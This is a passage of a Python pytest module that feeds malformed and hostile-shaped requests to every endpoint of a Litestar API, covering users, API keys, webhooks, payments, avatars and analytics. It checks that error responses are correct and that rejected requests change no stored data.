"""Every endpoint of the app, fed bad input.

For each (method, route template) the app serves, a table of hostile requests is sent with valid
credentials (or deliberately broken ones): malformed JSON, wrong JSON types, unknown and missing
fields, wrong field types, empty / over-long / control-character / unicode-edge / injection-shaped
strings, huge numbers, bad paging parameters, bad path ids, oversized bodies, wrong Content-Type,
bad Authorization and junk X-Request-ID headers, wrong methods and unknown sub-paths.

Webhook endpoints take a URL (https, no credentials, no private targets), a list of event types, a
description and a flag; their deliveries and the jobs that retry them are addressed by id.

Payments take an amount (minor units, 1 to 99,999,999), an ISO 4217 currency Keel knows, a payment
method token, a description, a customer email and string metadata; refunds an optional body (amount,
reason). Both POSTs require an ``Idempotency-Key`` (a fresh one is added to every request, so that each
reaches validation; its own cases test the header). The refund cases address a declined payment: a
well-formed refund gets through validation and is refused by the service with a 409, so every case has
one exact answer and nothing is refunded. Payment lists take filters (status, created range).

A user's avatar is uploaded as the image itself (raw bytes, not JSON): its cases are media types (only
PNG, JPEG and WebP: anything else is a 415), sizes (5 MiB, above the app's 1 MiB JSON limit, is fine; one
byte more is a 413) and images that are not what they claim or cannot be decoded (empty, text, truncated,
corrupt, a decompression bomb, a JPEG labelled PNG: 422 ``/problems/invalid-image``). The download takes a
``size`` (64 or 256) and answers ``If-None-Match`` with a 304. A valid upload goes to the victim user, who
already has an avatar: the model expects it still served afterwards, and the blob store to hold no upload
that was not answered with a 202.

The analytics summary takes a date range (``from``/``to``, UTC days, at most 366, not after today) and a
currency; a rollup takes a body of two dates (closed days, at most 92). The valid rollups are all of days in
2019 and 2020, so the rule about today never decides them; each really rolls its days up, and the model
expects exactly the days of the rollups answered with a 202 to be rolled up.

Every response must be below 500; every 4xx must be RFC 9457 problem+json whose ``status`` is the
HTTP status and which carries the request id; cases with a clear answer (400, 401, 404, 405, 413,
415, 422) must get exactly that. Finally, the tenant's data (and the row counts of every table)
must equal what the successful responses said they did: no rejected request may change anything.

``test_table_covers_every_endpoint`` enumerates the app's routes, so a new endpoint without an entry
in ``ENDPOINTS`` fails the suite.
"""

from __future__ import annotations

import asyncio
import base64
import io
import itertools
import json
import os
import re
import string
import struct
import uuid
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field, replace
from datetime import date, timedelta
from functools import cache
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import pytest
from litestar import Litestar
from litestar.routes import HTTPRoute
from litestar.testing import AsyncTestClient
from PIL import Image

from keel.contexts.media.domain.services import PROCESS_JOB
from keel.platform.domain.events import event_job_id
from tests.conftest import REFUSED_HOST
from tests.support.waiting import eventually

Client = AsyncTestClient[Litestar]

JSON = "application/json"
PROBLEM = "application/problem+json"
MAX_BODY = 1024 * 1024  # Settings.max_body_bytes default
REQUEST_ID = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._:\-]{0,127}$")
SKIPPED_METHODS = {"HEAD", "OPTIONS"}


def app_endpoints(app: Litestar) -> dict[tuple[str, str], HTTPRoute]:
    """(method, path template) -> route for everything the app serves, HEAD/OPTIONS aside."""
    return {
        (method, route.path): route
        for route in app.routes
        if isinstance(route, HTTPRoute)
        for method in route.methods
        if method not in SKIPPED_METHODS
    }


# --------------------------------------------------------------------------------------------------
# Requests and their checks
# --------------------------------------------------------------------------------------------------

Header = tuple[str, str | bytes]


@dataclass(frozen=True)
class Case:
    group: str
    name: str
    method: str
    path: str
    expect: frozenset[int]
    headers: tuple[Header, ...] = ()
    content: bytes | None = None
    chunked: bool = False
    sent: dict[str, Any] | None = None  # body values that must come back verbatim on success
    target: str | None = None  # id of the resource the request addresses, if any
    request_id: bytes | None = None  # the X-Request-ID sent, if any
    replayed: bool | None = None  # a success must (True) or must not (False) be an idempotent replay
    problem: str | None = None  # the type an error answer must carry (RFC 9457 ``type``)

    @property
    def label(self) -> str:
        path = self.path if len(self.path) <= 120 else self.path[:120] + f"...({len(self.path)} chars)"
        return f"{self.method} {path} [{self.group}/{self.name}]"


@dataclass
class Result:
    status: int
    headers: httpx.Headers
    body: bytes

    def json(self) -> Any:
        return json.loads(self.body)


def _short(data: bytes, limit: int = 400) -> str:
    text = " ".join(data.decode("utf-8", "replace").split())
    return text if len(text) <= limit else text[:limit] + f"...({len(text)} chars)"


async def send(client: Client, case: Case) -> Result:
    if case.chunked:
        return _send_chunked(client, case)
    r = await client.request(case.method, case.path, headers=list(case.headers), content=case.content)
    return Result(r.status_code, r.headers, r.content)


def _send_chunked(client: Client, case: Case) -> Result:
    """A body streamed without Content-Length (chunked transfer), straight through ASGI: httpx's async
    client cannot stream to Litestar's test transport."""
    assert case.content is not None
    raw_headers = [(b"host", b"127.0.0.1"), (b"transfer-encoding", b"chunked")]
    raw_headers += [(k.lower().encode(), v if isinstance(v, bytes) else v.encode()) for k, v in case.headers]
    path, _, query = case.path.partition("?")
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": case.method,
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": query.encode(),
        "headers": raw_headers,
        "client": ("testclient", 50000),
        "server": ("127.0.0.1", 80),
        "extensions": {"http.response.template": {}},
    }
    step = 64 * 1024
    chunks = [case.content[i : i + step] for i in range(0, len(case.content), step)]
    out: dict[str, Any] = {"status": 0, "headers": [], "body": b""}

    async def receive() -> dict[str, Any]:
        if chunks:
            chunk = chunks.pop(0)
            return {"type": "http.request", "body": chunk, "more_body": bool(chunks)}
        return {"type": "http.disconnect"}

    async def send_(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            out["status"] = message["status"]
            out["headers"] = [(k.decode("latin-1"), v.decode("latin-1")) for k, v in message.get("headers", [])]
        elif message["type"] == "http.response.body":
            out["body"] += message.get("body", b"")

    client.blocking_portal.call(client.app, scope, receive, send_)
    return Result(out["status"], httpx.Headers(out["headers"]), out["body"])


def check(case: Case, r: Result, echo: Callable[[Any], dict[str, Any]] | None) -> list[str]:
    """Everything wrong with one response, as readable lines."""
    errors: list[str] = []

    def fail(why: str) -> None:
        errors.append(f"{case.label} -> {r.status}: {why}; body: {_short(r.body)}")

    if r.status >= 500:
        fail("server error")
    elif r.status not in case.expect:
        fail(f"expected {sorted(case.expect)}")

    rid = r.headers.get("x-request-id", "")
    if not REQUEST_ID.match(rid):
        fail(f"response X-Request-ID {rid!r} is not a well-formed id")
    if case.request_id is not None:
        sent = case.request_id.decode("latin-1")
        if REQUEST_ID.match(sent) and rid != sent:
            fail(f"well-formed X-Request-ID {sent!r} was not echoed (got {rid!r})")
        if not REQUEST_ID.match(sent) and rid == sent:
            fail("junk X-Request-ID was echoed back")

    if r.status >= 400:
        content_type = r.headers.get("content-type", "")
        if not content_type.startswith(PROBLEM):
            fail(f"error content-type is {content_type!r}, not {PROBLEM}")
        else:
            try:
                problem = r.json()
            except ValueError:
                fail("problem body is not JSON")
            else:
                if not isinstance(problem, dict):
                    fail("problem body is not an object")
                else:
                    if problem.get("status") != r.status:
                        fail(f"problem status {problem.get('status')!r} != HTTP status")
                    if not isinstance(problem.get("type"), str) or not isinstance(problem.get("title"), str):
                        fail("problem lacks type/title")
                    if problem.get("request_id") != rid or not rid:
                        fail(f"problem request_id {problem.get('request_id')!r} != X-Request-ID {rid!r}")
                    # Validation failures list their errors; a reused Idempotency-Key is about the request
                    # as a whole.
                    reused = problem.get("type") == "/problems/idempotency-key-reused"
                    if r.status == 422 and not problem.get("errors") and not reused:
                        fail("422 without an `errors` list")
                    if case.problem is not None and problem.get("type") != case.problem:
                        fail(f"problem type {problem.get('type')!r}, expected {case.problem!r}")
        if r.status == 401 and "www-authenticate" not in r.headers:
            fail("401 without WWW-Authenticate")
    elif r.status == 304 and (r.body or "etag" not in r.headers):
        fail("a 304 must carry the ETag and no body")
    elif case.replayed is not None and (r.headers.get("idempotent-replayed") == "true") != case.replayed:
        fail("expected an idempotent replay" if case.replayed else "answered as a replay")
    elif 200 <= r.status < 300 and case.sent and echo is not None:
        got = echo(r.json())
        for name, value in case.sent.items():
            if got.get(name) != value:
                fail(f"field {name!r} came back as {got.get(name)!r}, sent {value!r}")
    return errors


# --------------------------------------------------------------------------------------------------
# The tenant under attack and a model of what its data should be
# --------------------------------------------------------------------------------------------------


@dataclass
class Ctx:
    client: Client
    token: str
    tenant_id: str
    owner_id: str
    auth_key_id: str
    victim_user: str
    victim_key: str
    revoked_token: str
    missing: str
    routes: dict[str, set[str]]
    victim_endpoint: str
    victim_delivery: str
    job: str  # a job of the tenant (the manual retry of the victim delivery)
    victim_payment: str  # succeeded, refunded in part
    victim_refund: str  # its refund
    declined_payment: str  # failed: nothing can be refunded
    victim_avatar: dict[int, str]  # the victim's avatar: size -> ETag
    blobs: Path  # where the app keeps avatars (its data dir's blob store)
    counter: Iterable[int] = field(default_factory=lambda: itertools.count(1))

    @property
    def auth(self) -> tuple[Header, ...]:
        return (("Authorization", f"Bearer {self.token}"),)

    def n(self) -> int:
        return next(iter(self.counter))


# Accepted at creation, refused by the connection-time guard (tests/conftest.py: refused_host), so
# every delivery to it fails at once and for good, without any traffic.
REFUSED_URL = f"https://{REFUSED_HOST}:9/victim"


@pytest.fixture(autouse=True)
def _refused_host_resolves_to_loopback(refused_host: str) -> None:
    pass


# The events make_ctx causes after creating the victim endpoint: one delivery each.
VICTIM_EVENTS = ["user.created", "api_key.created", "api_key.revoked"]


async def _settle_deliveries(client: Client, headers: dict[str, str], endpoint_id: str, attempts: int) -> str:
    """Wait until the victim endpoint's 4 deliveries have failed with ``attempts`` attempts in all; returns
    the id of the user.created one."""
    path = f"/v1/webhook-endpoints/{endpoint_id}/deliveries"

    async def probe() -> list[dict[str, Any]] | None:
        r = await client.get(path, headers=headers)
        assert r.status_code == 200, r.text
        items: list[dict[str, Any]] = r.json()["items"]
        done = len(items) == 4 and all(d["status"] == "failed" for d in items)
        return items if done and sum(len(d["attempts"]) for d in items) == attempts else None

    items = await eventually(probe)
    return str(next(d["id"] for d in items if d["event_type"] == "user.created"))


async def make_ctx(client: Client, tenant: dict[str, Any]) -> Ctx:
    headers = tenant["headers"]
    hook = await client.post(
        "/v1/webhook-endpoints",
        headers=headers,
        json={"url": REFUSED_URL, "event_types": VICTIM_EVENTS, "description": "Victim"},
    )
    assert hook.status_code == 201, hook.text
    endpoint_id = hook.json()["id"]
    victim = await client.post("/v1/users", headers=headers, json={"email": "victim@acme.test", "name": "Victim"})
    key = await client.post("/v1/api-keys", headers=headers, json={"name": "victim"})
    revoked = await client.post("/v1/api-keys", headers=headers, json={"name": "revoked"})
    assert victim.status_code == key.status_code == revoked.status_code == 201
    gone = await client.delete(f"/v1/api-keys/{revoked.json()['id']}", headers=headers)
    assert gone.status_code == 204
    # Every delivery settled, one retried by hand (a job of the tenant), then the endpoint switched off: no
    # background work is left to change anything while the cases run.
    delivery = await _settle_deliveries(client, headers, endpoint_id, attempts=4)
    retry = await client.post(f"/v1/webhook-endpoints/{endpoint_id}/deliveries/{delivery}/retry", headers=headers)
    assert retry.status_code == 202, retry.text
    await _settle_deliveries(client, headers, endpoint_id, attempts=5)
    off = await client.patch(f"/v1/webhook-endpoints/{endpoint_id}", headers=headers, json={"enabled": False})
    assert off.status_code == 200, off.text
    payment, refund, declined = await _victim_payments(client, headers)
    avatar = await _victim_avatar(client, headers, victim.json()["id"])
    await quiet(client)
    routes: dict[str, set[str]] = {}
    for method, template in app_endpoints(client.app):
        routes.setdefault(template, set()).add(method)
    return Ctx(
        client=client,
        token=tenant["api_key"]["token"],
        tenant_id=tenant["tenant"]["id"],
        owner_id=tenant["user"]["id"],
        auth_key_id=tenant["api_key"]["id"],
        victim_user=victim.json()["id"],
        victim_key=key.json()["id"],
        revoked_token=revoked.json()["token"],
        missing=str(uuid.uuid4()),
        routes=routes,
        victim_endpoint=endpoint_id,
        victim_delivery=delivery,
        job=retry.json()["job_id"],
        victim_payment=payment,
        victim_refund=refund,
        declined_payment=declined,
        victim_avatar=avatar,
        blobs=client.app.state["container"].settings.data_dir / "blobs" / "avatars" / tenant["tenant"]["id"],
    )


async def _victim_avatar(client: Client, headers: dict[str, str], user_id: str) -> dict[int, str]:
    """Upload the victim's avatar and wait until it is served; returns its ETags by size."""
    r = await client.put(
        f"/v1/users/{user_id}/avatar", headers={**headers, "Content-Type": "image/png"}, content=png((90, 30, 160))
    )
    assert r.status_code == 202, r.text

    async def served() -> dict[int, str] | None:
        etags = {}
        for size in (64, 256):
            r = await client.get(f"/v1/users/{user_id}/avatar?size={size}", headers=headers)
            if r.status_code != 200:
                return None
            etags[size] = r.headers["etag"]
        return etags

    return await eventually(served)


async def _reached(client: Client, headers: dict[str, str], path: str, status: str) -> None:
    async def probe() -> bool:
        r = await client.get(path, headers=headers)
        assert r.status_code == 200, r.text
        return bool(r.json()["status"] == status)

    await eventually(probe)


async def _victim_payments(client: Client, headers: dict[str, str]) -> tuple[str, str, str]:
    """A succeeded payment with a settled refund, and a declined payment; returns their ids."""
    ids: list[str] = []
    for method in ("pm_card_visa", "pm_card_chargeDeclined"):
        r = await client.post(
            "/v1/payments",
            headers={**headers, "Idempotency-Key": f"victim-{method}"},
            json={"amount": 5_000, "currency": "EUR", "payment_method": method, "description": "Victim"},
        )
        assert r.status_code == 202, r.text
        ids.append(r.json()["payment"]["id"])
    payment, declined = ids
    await _reached(client, headers, f"/v1/payments/{payment}", "succeeded")
    await _reached(client, headers, f"/v1/payments/{declined}", "failed")
    r = await client.post(
        f"/v1/payments/{payment}/refunds", headers={**headers, "Idempotency-Key": "victim-refund"}, json={"amount": 1}
    )
    assert r.status_code == 202, r.text
    refund = r.json()["refund"]["id"]
    await _reached(client, headers, f"/v1/payments/{payment}/refunds/{refund}", "succeeded")
    await _reached(client, headers, f"/v1/payments/{payment}", "partially_refunded")
    return payment, refund, declined


async def quiet(client: Client) -> None:
    """Wait until the app has no background work left: every event published and every job run."""
    container = client.app.state["container"]

    async def pending() -> int:
        return int(await container.relay.pending())

    async def idle() -> bool:
        waiting = await asyncio.to_thread(client.blocking_portal.call, pending)
        return bool(waiting == 0 and container.jobs.idle)

    await eventually(idle, within=60)


async def settle_payments(client: Client, headers: dict[str, str]) -> None:
    """Wait until no payment of the tenant is pending (their capture jobs ran) and the app is quiet."""

    async def settled() -> bool:
        return all(p["status"] != "pending" for p in await _all(client, "/v1/payments", headers))

    await eventually(settled, within=60)
    await quiet(client)


REVOKED = "<revoked>"
ROTATED = "<rotated>"
TABLES = (
    "tenants",
    "users",
    "api_keys",
    "webhook_endpoints",
    "webhook_deliveries",
    "webhook_attempts",
    "payments",
    "payment_refunds",
    "avatars",
)
# What the capture job may still change about a payment created during the run; everything else is fixed.
SETTLED_BY_JOB = {"status", "provider_reference", "failure_reason", "failure_message", "updated_at"}


@dataclass
class State:
    tenant: dict[str, Any]
    users: dict[str, dict[str, Any]]
    keys: dict[str, dict[str, Any]]
    rows: dict[str, int]
    endpoints: dict[str, dict[str, Any]]
    deliveries: dict[str, list[dict[str, Any]]]  # endpoint id -> its delivery history
    payments: dict[str, dict[str, Any]]
    refunds: dict[str, list[dict[str, Any]]]  # payment id -> its refunds
    avatars: dict[str, dict[int, str]]  # user id -> size -> ETag, for the users whose avatar is served
    uploads: dict[str, dict[str, set[str]]]  # user id -> upload id -> the files the blob store keeps of it
    rolled_up: set[str]  # the tenant's days a rollup has covered (ISO dates)


def _endpoint_id(path: str) -> str | None:
    """The webhook endpoint a request path addresses, if any."""
    m = re.match(r"^/v1/webhook-endpoints/([^/?]+)", path)
    try:
        return str(uuid.UUID(m.group(1))) if m else None
    except ValueError:
        return None


async def _all(client: Client, path: str, headers: dict[str, str]) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    params: dict[str, Any] = {"limit": 100}
    while True:
        r = await client.get(path, params=params, headers=headers)
        assert r.status_code == 200, r.text
        items += r.json()["items"]
        if not r.json()["next_cursor"]:
            return items
        params["cursor"] = r.json()["next_cursor"]


async def snapshot(ctx: Ctx, pg_url: str) -> State:
    headers = dict(ctx.auth)
    tenant = await ctx.client.get("/v1/tenant", headers=headers)
    assert tenant.status_code == 200, tenant.text
    conn = await asyncpg.connect(pg_url.replace("postgresql+asyncpg://", "postgresql://"))
    try:
        rows = {t: int(await conn.fetchval(f"SELECT count(*) FROM {t}")) for t in TABLES}
        days = await conn.fetch(
            "SELECT day FROM analytics_rolled_up_days WHERE tenant_id = $1", uuid.UUID(ctx.tenant_id)
        )
    finally:
        await conn.close()
    endpoints = {e["id"]: e for e in await _all(ctx.client, "/v1/webhook-endpoints", headers)}
    payments = {p["id"]: p for p in await _all(ctx.client, "/v1/payments", headers)}
    users = {u["id"]: u for u in await _all(ctx.client, "/v1/users", headers)}
    avatars: dict[str, dict[int, str]] = {}
    for user_id in users:
        etags = {}
        for size in (64, 256):
            r = await ctx.client.get(f"/v1/users/{user_id}/avatar?size={size}", headers=headers)
            assert r.status_code in (200, 404), r.text
            if r.status_code == 200:
                etags[size] = r.headers["etag"]
        if etags:
            avatars[user_id] = etags
    return State(
        tenant=tenant.json(),
        users=users,
        keys={k["id"]: k for k in await _all(ctx.client, "/v1/api-keys", headers)},
        rows=rows,
        endpoints=endpoints,
        deliveries={e: await _all(ctx.client, f"/v1/webhook-endpoints/{e}/deliveries", headers) for e in endpoints},
        payments=payments,
        refunds={p: await _all(ctx.client, f"/v1/payments/{p}/refunds", headers) for p in payments},
        avatars=avatars,
        uploads=stored_uploads(ctx.blobs),
        rolled_up={d["day"].isoformat() for d in days},
    )


def stored_uploads(root: Path) -> dict[str, dict[str, set[str]]]:
    """What the blob store keeps of each user's uploads (``<user>/<upload>/<file>`` under ``root``)."""
    out: dict[str, dict[str, set[str]]] = {}
    for path in sorted(root.rglob("*")) if root.exists() else []:
        if path.is_file():
            user, upload, *rest = path.relative_to(root).parts
            out.setdefault(user, {}).setdefault(upload, set()).add("/".join(rest))
    return out


@dataclass
class Model:
    """What the tenant's data must be: the snapshot before, plus what each 2xx response reported."""

    state: State
    signups: int = 0
    uploads: dict[str, list[str]] = field(default_factory=dict)  # user id -> jobs of the uploads answered 202

    def apply(self, endpoint: tuple[str, str], case: Case, r: Result) -> None:
        if not 200 <= r.status < 300:
            return
        match endpoint:
            case ("POST", "/v1/signup"):
                self.signups += 1
            case ("PATCH", "/v1/tenant/config"):
                self.state.tenant = r.json()
            case ("POST", "/v1/users") | ("PATCH", "/v1/users/{user_id:uuid}"):
                self.state.users[r.json()["id"]] = r.json()
            case ("DELETE", "/v1/users/{user_id:uuid}"):
                self.state.users.pop(str(case.target), None)
            case ("POST", "/v1/api-keys"):
                self.state.keys[r.json()["id"]] = {k: v for k, v in r.json().items() if k != "token"}
            case ("DELETE", "/v1/api-keys/{key_id:uuid}") if case.target in self.state.keys:
                self.state.keys[case.target] = {**self.state.keys[case.target], "revoked_at": REVOKED}
            case ("POST", "/v1/webhook-endpoints"):
                self.state.endpoints[r.json()["id"]] = {k: v for k, v in r.json().items() if k != "secret"}
                self.state.deliveries[r.json()["id"]] = []
            case ("PATCH", "/v1/webhook-endpoints/{endpoint_id:uuid}"):
                self.state.endpoints[r.json()["id"]] = r.json()
            case ("DELETE", "/v1/webhook-endpoints/{endpoint_id:uuid}"):
                self.state.endpoints.pop(str(_endpoint_id(case.path)), None)
                self.state.deliveries.pop(str(_endpoint_id(case.path)), None)
            case ("POST", "/v1/payments"):
                payment = r.json()["payment"]
                self.state.payments[payment["id"]] = payment
                self.state.refunds.setdefault(payment["id"], [])
            case ("POST", "/v1/payments/{payment_id:uuid}/refunds"):
                refund = r.json()["refund"]
                self.state.refunds.setdefault(refund["payment_id"], []).append(refund)
            case ("POST", "/v1/analytics/rollups"):
                start, end = date.fromisoformat(r.json()["from"]), date.fromisoformat(r.json()["to"])
                self.state.rolled_up |= {(start + timedelta(days=i)).isoformat() for i in range((end - start).days + 1)}
            case ("PUT", "/v1/users/{user_id:uuid}/avatar"):
                # Uploads go to the victim, whose avatar_url is already set: the profile stays as it is,
                # and one of these uploads is what is served once their jobs have run.
                user_id = re.match(r"^/v1/users/([^/?]+)/avatar", case.path)
                assert user_id is not None, case.path
                self.uploads.setdefault(str(uuid.UUID(user_id.group(1))), []).append(r.json()["job_id"])
            case ("POST", "/v1/webhook-endpoints/{endpoint_id:uuid}/rotate-secret"):
                eid = str(_endpoint_id(case.path))
                if eid in self.state.endpoints:
                    expires = r.json()["previous_secret_expires_at"]
                    self.state.endpoints[eid] = {
                        **self.state.endpoints[eid],
                        "previous_secret_expires_at": expires,
                        "updated_at": ROTATED,
                    }

    def differences(self, before: State, after: State) -> list[str]:
        want = self.state
        out: list[str] = []
        if after.tenant != want.tenant:
            out.append(f"tenant changed: expected {want.tenant}, found {after.tenant}")
        if after.users != want.users:
            for uid in sorted(set(want.users) | set(after.users)):
                if want.users.get(uid) != after.users.get(uid):
                    out.append(f"user {uid}: expected {want.users.get(uid)}, found {after.users.get(uid)}")
        for kid in sorted(set(want.keys) | set(after.keys)):
            w, a = want.keys.get(kid), after.keys.get(kid)
            if w is not None and a is not None and w.get("revoked_at") == REVOKED and a.get("revoked_at"):
                w = {**w, "revoked_at": a["revoked_at"]}
            if w != a:
                out.append(f"api key {kid}: expected {w}, found {a}")
        for eid in sorted(set(want.endpoints) | set(after.endpoints)):
            w, a = want.endpoints.get(eid), after.endpoints.get(eid)
            if w is not None and a is not None and w.get("updated_at") == ROTATED:
                w = {**w, "updated_at": a["updated_at"]}
            if w != a:
                out.append(f"webhook endpoint {eid}: expected {w}, found {a}")
        for eid in sorted(set(want.deliveries) | set(after.deliveries)):
            if want.deliveries.get(eid) != after.deliveries.get(eid):
                out.append(
                    f"deliveries of {eid}: expected {want.deliveries.get(eid)}, found {after.deliveries.get(eid)}"
                )

        for pid in sorted(set(want.payments) | set(after.payments)):
            w, a = want.payments.get(pid), after.payments.get(pid)
            if w is not None and a is not None and pid not in before.payments:
                # Created during the run: its capture job settled it since the 202 (pending) answer.
                if a["status"] not in ("succeeded", "failed"):
                    out.append(f"payment {pid} is {a['status']}, not settled")
                w = {**w, **{k: a[k] for k in SETTLED_BY_JOB}}
                w["amount_refundable"] = a["amount"] if a["status"] == "succeeded" else 0
            if w != a:
                out.append(f"payment {pid}: expected {w}, found {a}")
        for pid in sorted(set(want.refunds) | set(after.refunds)):
            if [r["id"] for r in want.refunds.get(pid, [])] != [r["id"] for r in after.refunds.get(pid, [])]:
                out.append(f"refunds of {pid}: expected {want.refunds.get(pid)}, found {after.refunds.get(pid)}")

        out += self._avatar_differences(before, after)
        if after.rolled_up != want.rolled_up:
            out.append(
                f"rolled-up days: {sorted(after.rolled_up - want.rolled_up)} without an accepted rollup, "
                f"{sorted(want.rolled_up - after.rolled_up)} accepted and not rolled up"
            )

        def history(s: State) -> tuple[int, int]:
            deliveries = [d for ds in s.deliveries.values() for d in ds]
            return len(deliveries), sum(len(d["attempts"]) for d in deliveries)

        (want_deliveries, want_attempts), (had_deliveries, had_attempts) = history(want), history(before)
        expected_rows = {
            "tenants": before.rows["tenants"] + self.signups,
            "users": before.rows["users"] + self.signups + len(want.users) - len(before.users),
            "api_keys": before.rows["api_keys"] + self.signups + len(want.keys) - len(before.keys),
            "webhook_endpoints": before.rows["webhook_endpoints"] + len(want.endpoints) - len(before.endpoints),
            "webhook_deliveries": before.rows["webhook_deliveries"] + want_deliveries - had_deliveries,
            "webhook_attempts": before.rows["webhook_attempts"] + want_attempts - had_attempts,
            "payments": before.rows["payments"] + len(want.payments) - len(before.payments),
            "payment_refunds": before.rows["payment_refunds"]
            + sum(map(len, want.refunds.values()))
            - sum(map(len, before.refunds.values())),
            "avatars": before.rows["avatars"] + len(set(self.uploads) - set(before.avatars)),
        }
        if after.rows != expected_rows:
            out.append(f"row counts: expected {expected_rows}, found {after.rows}")
        return out

    def _avatar_differences(self, before: State, after: State) -> list[str]:
        """Users without an accepted upload keep their avatar and stored blobs as they were; a user with
        accepted uploads is served one of them, and the store holds nothing of an upload that was refused.

        Which accepted uploads are left in the store is not checked: the table sends them faster than their
        jobs run, and today an upload that lands while the previous upload's job saves its variants is lost,
        its original left behind (MediaService.process_avatar's final save is not conditional on the upload it
        re-read)."""
        out: list[str] = []
        for user_id in sorted(set(before.avatars) | set(after.avatars) | set(self.uploads)):
            accepted = self.uploads.get(user_id, [])
            was, now = before.avatars.get(user_id), after.avatars.get(user_id)
            stored, kept = after.uploads.get(user_id, {}), before.uploads.get(user_id, {})
            if not accepted:
                if now != was:
                    out.append(f"avatar of {user_id} changed without an accepted upload: {was} -> {now}")
                if stored != kept:
                    out.append(f"stored uploads of {user_id} changed without an accepted upload: {kept} -> {stored}")
                continue
            if now is None or set(now) != {64, 256}:
                out.append(f"avatar of {user_id} not served after {len(accepted)} accepted uploads: {now}")
            jobs = {u: event_job_id(uuid.UUID(u), PROCESS_JOB) for u in stored}
            strays = sorted(u for u, job in jobs.items() if job not in accepted and u not in kept)
            if strays:
                out.append(f"uploads of {user_id} stored without a 202 answer: {strays}")
            made = {"original", "original.type", "64.webp", "64.webp.type", "256.webp", "256.webp.type"}
            if not any(files == made and jobs[u] in accepted for u, files in stored.items()):
                out.append(f"none of the accepted uploads of {user_id} has its variants stored: {stored}")
        for user_id in sorted(set(after.uploads) - set(after.avatars) - set(self.uploads)):
            if after.uploads[user_id] != before.uploads.get(user_id):
                out.append(f"blobs stored for {user_id}, who has no avatar: {after.uploads[user_id]}")
        return out


# --------------------------------------------------------------------------------------------------
# The table: one entry per endpoint
# --------------------------------------------------------------------------------------------------


def ascii_lower(value: str) -> str:
    return value.translate(str.maketrans(string.ascii_uppercase, string.ascii_lowercase))


@dataclass(frozen=True)
class Field:
    name: str
    # text | email | timezone | locale | rate | url | event-types | bool, or a kind of CHOICES
    kind: str
    max_len: int = 0
    required: bool = True
    empty_ok: bool = False  # "" is a valid value (an optional text cleared)
    nullable: bool = False  # null is a valid value (an optional email left out)
    unique: bool = True  # emails: the value is unique in the tenant (a reused one may be a 409)
    fold: Callable[[str], str] = str.lower  # emails: how the stored address is case-folded


@dataclass(frozen=True)
class Body:
    fields: tuple[Field, ...]
    valid: Callable[[Ctx], dict[str, Any]]
    echo: Callable[[Any], dict[str, Any]]  # response JSON -> {input field: value as returned}
    optional: bool = False  # the whole body may be left out (or be null)


@dataclass(frozen=True)
class RawBody:
    """A body the handler reads as bytes of one of ``types`` (an image upload) instead of JSON."""

    types: tuple[str, ...]
    valid: Callable[[], bytes]  # a valid body, of the first type


@dataclass(frozen=True)
class Endpoint:
    ok: frozenset[int]  # the status of the well-formed request to `target`
    target: Callable[[Ctx], str]
    auth: bool = True
    body: Body | None = None
    raw: RawBody | None = None  # a body that is not JSON (cases: raw_body_cases)
    paged: bool = False
    ids: str | None = None  # user | key | endpoint | delivery | job | slug | schema: the kind of path parameter
    # A well-formed request that must not change anything (DELETE: a missing id), for header-level cases.
    safe: Callable[[Ctx], str] | None = None
    safe_ok: frozenset[int] | None = None
    idempotent: bool = False  # requires an Idempotency-Key
    # Query parameters (a list's filters, a variant's size): (case name, query string, "ok" | "bad" | "lax").
    filters: tuple[tuple[str, str, str], ...] = ()
    conditional: bool = False  # answers If-None-Match with the victim's avatar ETag (conditional_cases)


def _ok(*codes: int) -> frozenset[int]:
    return frozenset(codes)


SIGNUP = Body(
    fields=(
        Field("organization", "text", 200),
        Field("owner_email", "email", 320),
        Field("owner_name", "text", 200),
        Field("timezone", "timezone", 64, required=False),
        Field("locale", "locale", 35, required=False),
    ),
    valid=lambda c: {"organization": f"Org {c.n()}", "owner_email": f"owner{c.n()}@signup.test", "owner_name": "O"},
    echo=lambda b: {
        "organization": b["tenant"]["name"],
        "owner_email": b["user"]["email"],
        "owner_name": b["user"]["name"],
        "timezone": b["tenant"]["config"]["timezone"],
        "locale": b["tenant"]["config"]["locale"],
    },
)
TENANT_CONFIG = Body(
    fields=(
        Field("display_name", "text", 200, required=False),
        Field("timezone", "timezone", 64, required=False),
        Field("locale", "locale", 35, required=False),
        Field("rate_limit_per_minute", "rate", required=False),
    ),
    valid=lambda c: {"display_name": f"Acme {c.n()}"},
    echo=lambda b: dict(b["config"]),
)
API_KEY = Body(fields=(Field("name", "text", 100),), valid=lambda c: {"name": f"key {c.n()}"}, echo=dict)
USER_IN = Body(
    fields=(Field("email", "email", 320), Field("name", "text", 200)),
    valid=lambda c: {"email": f"user{c.n()}@acme.test", "name": f"User {c.n()}"},
    echo=dict,
)
USER_PATCH = Body(
    fields=(Field("email", "email", 320, required=False), Field("name", "text", 200, required=False)),
    valid=lambda c: {"name": f"Victim {c.n()}"},
    echo=dict,
)

WEBHOOK_IN = Body(
    fields=(
        Field("url", "url", 2048),
        Field("event_types", "event-types", 100),
        Field("description", "text", 500, required=False, empty_ok=True),
        Field("enabled", "bool", required=False),
    ),
    valid=lambda c: {"url": f"https://example.com/hooks/{c.n()}", "event_types": ["user.created"]},
    echo=dict,
)
WEBHOOK_PATCH = Body(
    fields=(
        Field("url", "url", 2048, required=False),
        Field("event_types", "event-types", 100, required=False),
        Field("description", "text", 500, required=False, empty_ok=True),
        Field("enabled", "bool", required=False),
    ),
    valid=lambda c: {"description": f"Victim {c.n()}"},
    echo=dict,
)
HOOKS = "/v1/webhook-endpoints"

PAYMENT_IN = Body(
    fields=(
        Field("amount", "amount"),
        Field("currency", "currency"),
        Field("payment_method", "payment-method"),
        Field("description", "text", 500, required=False, empty_ok=True),
        Field("customer_email", "email", 320, required=False, nullable=True, unique=False, fold=ascii_lower),
        Field("metadata", "metadata", required=False),
    ),
    valid=lambda c: {"amount": 2500, "currency": "EUR", "payment_method": "pm_card_visa"},
    echo=lambda b: dict(b["payment"]),
)
REFUND_IN = Body(
    fields=(Field("amount", "amount", required=False), Field("reason", "refund-reason", required=False)),
